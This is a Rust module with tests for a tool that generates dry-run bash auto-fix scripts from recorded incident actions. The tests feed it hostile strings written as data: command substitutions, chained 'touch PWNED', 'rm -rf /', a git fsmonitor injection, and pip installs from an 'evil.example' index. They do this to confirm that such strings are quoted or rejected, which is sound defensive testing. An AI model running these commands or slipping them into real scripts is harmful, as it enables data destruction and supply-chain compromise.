//! Candidate auto-fix scripts: for a pattern that was resolved several times by the same
//! actions, a reviewable bash script that replays them (dry run by default).
//!
//! Incident text is untrusted. It reaches a script only as a comment with control
//! characters removed, as a single-quoted string, or as the words of a command that passed
//! [`command_words`]; it is never evaluated by a shell.

mod policy;
mod script;

pub(crate) use policy::command_words;
pub use script::{
    AutofixOptions, Script, ScriptPlan, ScriptStatus, Step, StepSource, candidate, plan_scripts,
    write_scripts,
};
pub(crate) use script::{
    GENERATED_MARK, apply_plans, plan_scripts_inner, resolved_total, valid_pattern_id,
};

#[cfg(test)]
mod tests {
    use std::fs;
    use std::path::{Path, PathBuf};

    use super::script::sq;
    use super::*;
    use crate::model::Counted;
    use crate::model::Pattern;
    use crate::model::{Category, Timestamp};
    use std::io::Write as _;
    use std::process::Command;

    /// Writes the script into `dir` and asserts that `bash -n` and shellcheck accept it.
    fn write_and_lint(dir: &Path, script: &Script) -> PathBuf {
        let path = dir.join(&script.file_name);
        fs::write(&path, &script.content).expect("write");
        let syntax = Command::new("bash")
            .arg("-n")
            .arg(&path)
            .output()
            .expect("bash -n");
        assert!(
            syntax.status.success(),
            "bash -n: {}",
            String::from_utf8_lossy(&syntax.stderr)
        );
        if !tool_available("shellcheck") {
            return path;
        }
        let lint = Command::new("shellcheck")
            .arg(&path)
            .output()
            .expect("shellcheck runs");
        assert!(
            lint.status.success(),
            "shellcheck:\n{}\n{}",
            String::from_utf8_lossy(&lint.stdout),
            script.content
        );
        path
    }

    fn counted<T>(value: T, count: u64) -> Counted<T> {
        Counted { value, count }
    }

    fn pattern(id: &str, template: &str, actions: &[&str], resolved: u64) -> Pattern {
        Pattern {
            id: id.to_string(),
            template: template.to_string(),
            name: template.replace("<*>", "").trim().to_string(),
            count: resolved + 1,
            first_seen: Timestamp::from_micros(1_736_000_000_000_000),
            last_seen: Timestamp::from_micros(1_752_000_000_000_000),
            categories: vec![counted(Category::Failure, resolved + 1)],
            components: vec![],
            statuses: vec![],
            recurrences: 1,
            resolved,
            mean_resolve_secs: Some(3600.0),
            median_resolve_secs: Some(1800.0),
            root_causes: vec![],
            actions: actions
                .iter()
                .map(|a| counted(a.to_string(), resolved))
                .collect(),
            action_sets: vec![counted(
                actions.iter().map(|a| a.to_string()).collect(),
                resolved,
            )],
            preventive_measures: vec![],
            last_fix: actions.iter().map(|a| a.to_string()).collect(),
            examples: vec![],
        }
    }

    fn hostile() -> Pattern {
        let mut p = pattern(
            "P0badc0de",
            "Disk full $(touch PWNED) `touch PWNED` 'quote\nrm -rf / <*>",
            &[
                "`$(touch PWNED)`",
                "echo hi; touch PWNED",
                "mkdir made_by_script",
                "systemctl restart x; touch PWNED",
                "mkdir 'a b' \"c\nd\"",
                "kubectl get pods | touch PWNED",
                "pip install `touch PWNED`",
                "chmod 644 $(touch PWNED)",
                "python -c 'import os'",
                "git -c core.fsmonitor=\"touch PWNED\" status",
                "rm -rf /",
                "it's done\n$(touch PWNED)\ntouch PWNED",
            ],
            3,
        );
        p.name = "title with ' quote\n$(touch PWNED)\n`touch PWNED`".to_string();
        p
    }

    /// Whether an external linter is installed. A test that needs one skips itself when it
    /// is absent and says so on stderr (not captured by the test harness), unless
    /// `INCIDENT_REQUIRE_LINTERS` is set, as CI sets it: there a missing linter fails.
    fn tool_available(tool: &str) -> bool {
        if Command::new(tool).arg("--version").output().is_ok() {
            return true;
        }
        assert!(
            std::env::var_os("INCIDENT_REQUIRE_LINTERS").is_none(),
            "{tool} is not installed and INCIDENT_REQUIRE_LINTERS is set"
        );
        let _ = writeln!(
            std::io::stderr(),
            "skipped: {tool} is not installed; its checks did not run (apt-get install {tool})"
        );
        false
    }

    fn run_bash(script: &Path, dir: &Path, args: &[&str]) -> std::process::Output {
        Command::new("bash")
            .arg(script)
            .args(args)
            .current_dir(dir)
            .output()
            .expect("bash runs")
    }

    #[test]
    fn commands_are_recognised_only_when_plain() {
        let ok = |s: &str| command_words(s);
        assert_eq!(
            ok("systemctl restart rabbitmq-server"),
            Some(vec![
                "systemctl".into(),
                "restart".into(),
                "rabbitmq-server".into()
            ])
        );
        assert_eq!(
            ok("`kubectl rollout restart deploy/api`"),
            Some(vec![
                "kubectl".into(),
                "rollout".into(),
                "restart".into(),
                "deploy/api".into()
            ])
        );
        assert_eq!(ok("mkdir 'a b'"), Some(vec!["mkdir".into(), "a b".into()]));
        for good in [
            "pip install -r requirements.txt",
            "pip3 install --upgrade requests==2.31.0",
            "python3 -m pip install -r requirements.txt",
            "python3 manage.py migrate",
            "psql -U postgres -d app",
            "git checkout -- config/settings.yaml",
            "redis-cli -h 10.0.0.2 ping",
            "journalctl --vacuum-size=500M",
            "chmod 644 /var/log/app/worker.log",
        ] {
            assert!(ok(good).is_some(), "{good:?} is a plain recorded command");
        }
        for bad in [
            "`$(touch PWNED)`",
            "echo hi; touch PWNED",
            "systemctl restart x && touch y",
            "kubectl logs x > out",
            "pip install `x` `y`",
            "chmod 644 $(touch PWNED)",
            "systemctl restart ${SVC}",
            "python -c 'import os'",
            "git -c core.fsmonitor=x status",
            "rm -rf /tmp/x",
            "chown -R app /",
            "chmod -R 777 .",
            "mkdir ''",
            "mkdir 'unterminated",
            "Restart the service",
            "touch PWNED",
            "ls *.log",
            "ls ~/x",
            // A command inside prose is not the recorded action.
            "Ran `supervisorctl restart all` on the host",
            // Code given on the command line, in every option form.
            "psql '-cDROP TABLE users'",
            "psql -c 'DROP TABLE users'",
            "psql --command='DROP TABLE users'",
            "psql --comm='DROP TABLE users'",
            "psql -Xc 'DROP TABLE users'",
            "psql -f drop.sql",
            "python3 '-cimport this'",
            "python3 -Ic 'import this'",
            "python3 -c 'import this'",
            "python3 -m http.server",
            "python3 -mhttp.server",
            "python3",
            "git -ccore.fsmonitor=x status",
            "git --exec-path=/tmp status",
            "git pull --upload-pack=x origin",
            "redis-cli EVAL 'return 1' 0",
            "rabbitmqctl eval 'halt().'",
            "docker run alpine",
            "docker -H tcp://x ps",
            "kubectl exec pod -- sh",
            // Installing from somewhere else.
            "pip install --index-url=http://evil.example/simple requests",
            "pip install --index-url http://evil.example/simple requests",
            "pip install -i http://evil.example/simple requests",
            "pip install --ind=http://evil.example/simple requests",
            "pip install --extra-index-url=http://evil.example/simple requests",
            "pip install git+https://evil.example/x.git",
            "pip install ./local_pkg",
            "pip install -r http://evil.example/req.txt",
            "python3 -m pip install --index-url=http://evil.example/simple x",
        ] {
            assert_eq!(ok(bad), None, "{bad:?} must not become a command");
        }
    }

    #[test]
    fn quoting_round_trips_through_bash() {
        for s in ["it's", "a b", "$(x) `y` \\ \"", "日本語"] {
            let out = Command::new("bash")
                .arg("-c")
                .arg(format!("printf %s {}", sq(s)))
                .output()
                .expect("bash runs");
            assert_eq!(String::from_utf8_lossy(&out.stdout), s);
        }
    }

    #[test]
    fn no_script_without_agreement_or_commands() {
        let opts = AutofixOptions::default();
        assert!(candidate(&pattern("P00000001", "x <*>", &["mkdir y"], 1), &opts).is_none());
        assert!(candidate(&pattern("P00000002", "x <*>", &["再起動した"], 3), &opts).is_none());
        let mut split = pattern("P00000003", "x <*>", &["mkdir y"], 4);
        split.action_sets = vec![counted(vec!["mkdir y".into()], 2)];
        split.actions = vec![counted("mkdir y".into(), 2)];
        assert!(
            candidate(&split, &opts).is_none(),
            "2 of 4 is not a majority"
        );
        split.actions = vec![counted("mkdir y".into(), 3)];
        assert!(candidate(&split, &opts).is_some(), "3 of 4 used the action");
        assert!(candidate(&pattern("../evil", "x", &["mkdir y"], 3), &opts).is_none());
    }

    /// Regression: a keyword rule once added `run systemctl restart rabbitmq-server` to a
    /// WorkerCrashError script because a component's name contained "rabbitmq".
    #[test]
    fn keyword_rules_only_suggest_and_never_run() {
        let mut p = pattern(
            "P0000abcd",
            "WorkerCrashError in <*> — ワーカープロセスが異常終了しました",
            &["systemctl restart pm-worker", "キューを確認"],
            4,
        );
        p.components = vec![counted("libs/rabbitmq_client.py".into(), 4)];
        let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
        assert!(s.content.contains("# Step 1: recorded action (used in 4 of 4 resolved incidents): systemctl restart pm-worker\nrun systemctl restart pm-worker\n"), "{}", s.content);
        assert!(s.content.contains("manual 'キューを確認'"));
        assert!(
            s.content.contains(
                "# Step 3: suggested by keyword rule: rabbitmq (printed only)\nsuggest 'systemctl status rabbitmq-server'\n"
            ),
            "{}",
            s.content
        );
        let runs: Vec<&str> = s
            .content
            .lines()
            .filter_map(|l| l.strip_prefix("run "))
            .collect();
        assert_eq!(runs, ["systemctl restart pm-worker"]);
        assert!(!s.content.lines().any(|l| l.starts_with("check ")));
        for step in &s.steps {
            if let Step::Command { source, .. } = step {
                assert!(matches!(source, StepSource::Recorded { .. }), "{step:?}");
            }
        }
    }

    #[test]
    fn keywords_alone_make_no_script() {
        let p = pattern(
            "P0000abce",
            "Connection refused to RabbitMQ at <*>",
            &["キューを確認"],
            4,
        );
        assert!(candidate(&p, &AutofixOptions::default()).is_none());
    }

    #[test]
    fn hostile_text_stays_inert_dry_and_applied() {
        if !tool_available("shellcheck") {
            return;
        }
        let tmp = tempfile::tempdir().expect("tempdir");
        let p = hostile();
        let script = candidate(
            &p,
            &AutofixOptions {
                max_steps: 20,
                ..Default::default()
            },
        )
        .expect("candidate");
        let commands: Vec<&Vec<String>> = script
            .steps
            .iter()
            .filter_map(|s| match s {
                Step::Command { argv, .. } => Some(argv),
                Step::Targeted { .. } | Step::Instruction { .. } => None,
            })
            .collect();
        let made = vec!["mkdir".to_string(), "made_by_script".to_string()];
        assert_eq!(
            commands,
            vec![&made],
            "only the plain mkdir survives: {:#?}",
            script.steps
        );
        for line in script.content.lines() {
            let t = line.trim_start();
            assert!(
                !(t.starts_with("touch") || t.starts_with("rm ") || t.starts_with("$(")),
                "hostile text on its own line: {line:?}"
            );
        }

        let path = write_and_lint(tmp.path(), &script);

        let dry = run_bash(&path, tmp.path(), &[]);
        assert!(
            dry.status.success(),
            "{}",
            String::from_utf8_lossy(&dry.stderr)
        );
        let stdout = String::from_utf8_lossy(&dry.stdout);
        assert!(stdout.contains("+ mkdir made_by_script"), "{stdout}");
        assert!(
            stdout.contains("manual step: echo hi; touch PWNED"),
            "{stdout}"
        );
        assert!(
            !tmp.path().join("made_by_script").exists(),
            "dry run executed a step"
        );
        assert!(!tmp.path().join("PWNED").exists());

        let applied = run_bash(&path, tmp.path(), &["--apply"]);
        assert!(
            applied.status.success(),
            "{}",
            String::from_utf8_lossy(&applied.stderr)
        );
        assert!(
            tmp.path().join("made_by_script").is_dir(),
            "--apply ran the command"
        );
        assert!(
            !tmp.path().join("PWNED").exists(),
            "hostile text was executed"
        );
    }

    #[test]
    fn dry_run_prints_steps_and_runs_nothing() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let p = pattern(
            "P00000030",
            "Cache dir missing <*>",
            &["mkdir -p cache/tmp", "キャッシュを確認"],
            2,
        );
        let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
        let path = tmp.path().join(&s.file_name);
        fs::write(&path, &s.content).expect("write");
        let out = run_bash(&path, tmp.path(), &[]);
        assert!(out.status.success());
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            "dry run: printing the steps only; pass --apply to run the commands\n\
             + mkdir -p cache/tmp\n\
             manual step: キャッシュを確認\n"
        );
        assert!(!tmp.path().join("cache").exists());
        let applied = run_bash(&path, tmp.path(), &["--apply"]);
        assert!(applied.status.success());
        assert!(tmp.path().join("cache/tmp").is_dir());
        let bad = run_bash(&path, tmp.path(), &["--force"]);
        assert_eq!(bad.status.code(), Some(2));
    }

    #[test]
    fn write_scripts_is_atomic_idempotent_and_keeps_edited_files() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let dir = tmp.path().join("auto_fix");
        let opts = AutofixOptions::default();
        let pats = vec![
            pattern(
                "P00000010",
                "Worker crashed <*>",
                &["supervisorctl restart all"],
                3,
            ),
            pattern("P00000011", "Disk <*>", &["df -h"], 2),
        ];
        let written = write_scripts(&dir, &pats, &opts).expect("write");
        assert_eq!(written.len(), 2);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = fs::metadata(&written[0])
                .expect("meta")
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o644);
        }
        assert!(write_scripts(&dir, &pats, &opts).expect("rerun").is_empty());

        let edited = "#!/usr/bin/env bash\necho mine\n";
        fs::write(dir.join("P00000011.sh"), edited).expect("edit");
        let plans = plan_scripts(&dir, &pats, &opts).expect("plan");
        assert_eq!(plans[1].status, ScriptStatus::KeptEdited);
        assert!(write_scripts(&dir, &pats, &opts).expect("rerun").is_empty());
        assert_eq!(
            fs::read_to_string(dir.join("P00000011.sh")).expect("read"),
            edited
        );
        let leftovers: Vec<_> = fs::read_dir(&dir)
            .expect("dir")
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().starts_with('.'))
            .collect();
        assert!(leftovers.is_empty(), "temporary files left behind");
    }

    /// A fix whose recorded uses differ only in the last word (which file, which service)
    /// takes that word as an argument, limited to the recorded ones; replaying the most
    /// used one would be wrong for every other incident.
    #[test]
    fn a_fix_that_depends_on_the_incident_takes_its_target() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let mut p = pattern("P00000040", "Cache dir missing <*>", &[], 10);
        p.action_sets = vec![
            counted(vec!["mkdir -p cache/a".into()], 6),
            counted(vec!["mkdir -p cache/b".into()], 3),
            counted(vec!["`mkdir -p cache/b`".into()], 1),
        ];
        p.actions = vec![
            counted("mkdir -p cache/a".into(), 6),
            counted("mkdir -p cache/b".into(), 4),
        ];
        let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
        let Step::Targeted { argv, targets, .. } = &s.steps[0] else {
            panic!("{:#?}", s.steps);
        };
        assert_eq!(argv, &["mkdir", "-p"]);
        assert_eq!(
            targets,
            &[
                counted("cache/a".to_string(), 6),
                counted("cache/b".to_string(), 4)
            ]
        );
        assert!(
            s.content.contains("10 of 10 resolved incidents were resolved with `mkdir -p TARGET` alone, TARGET as recorded: cache/a (6), cache/b (4)."),
            "{}",
            s.content
        );
        let path = write_and_lint(tmp.path(), &s);

        let dry = run_bash(&path, tmp.path(), &[]);
        assert!(dry.status.success());
        assert!(
            String::from_utf8_lossy(&dry.stdout).contains("+ mkdir -p TARGET\n"),
            "{}",
            String::from_utf8_lossy(&dry.stdout)
        );
        let dry_b = run_bash(&path, tmp.path(), &["--dry-run", "cache/b"]);
        assert!(String::from_utf8_lossy(&dry_b.stdout).contains("+ mkdir -p cache/b\n"));

        for refused in [
            &["--apply"][..],
            &["--apply", "cache/c"],
            &["--apply", "x; touch PWNED"],
        ] {
            let out = run_bash(&path, tmp.path(), refused);
            assert_eq!(out.status.code(), Some(2), "{refused:?}");
            assert!(!tmp.path().join("cache").exists(), "{refused:?} ran a step");
            assert!(!tmp.path().join("PWNED").exists());
        }
        let applied = run_bash(&path, tmp.path(), &["--apply", "cache/b"]);
        assert!(
            applied.status.success(),
            "{}",
            String::from_utf8_lossy(&applied.stderr)
        );
        assert!(tmp.path().join("cache/b").is_dir());
        assert!(!tmp.path().join("cache/a").exists());

        // A variant used by fewer than a tenth is noise: the most used fix is replayed.
        p.resolved = 20;
        p.action_sets = vec![
            counted(vec!["mkdir -p cache/a".into()], 19),
            counted(vec!["mkdir -p cache/b".into()], 1),
        ];
        let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
        assert!(
            matches!(&s.steps[0], Step::Command { argv, .. } if argv.join(" ") == "mkdir -p cache/a"),
            "{:#?}",
            s.steps
        );
    }

    #[test]
    fn generated_scripts_pass_bash_n_and_shellcheck() {
        if !tool_available("shellcheck") {
            return;
        }
        let tmp = tempfile::tempdir().expect("tempdir");
        let pats = [
            pattern(
                "P00000020",
                "ModuleNotFoundError: No module named <*> in worker",
                &[
                    "pip install -r requirements.txt",
                    "systemctl restart worker",
                ],
                3,
            ),
            pattern(
                "P00000021",
                "Permission denied: <*>",
                &["chmod 644 /var/log/app.log"],
                2,
            ),
        ];
        for p in &pats {
            let s = candidate(p, &AutofixOptions::default()).expect("candidate");
            let path = write_and_lint(tmp.path(), &s);
            let dry = run_bash(&path, tmp.path(), &["--dry-run"]);
            assert!(dry.status.success());
            assert!(String::from_utf8_lossy(&dry.stdout).starts_with("dry run:"));
        }
    }
}
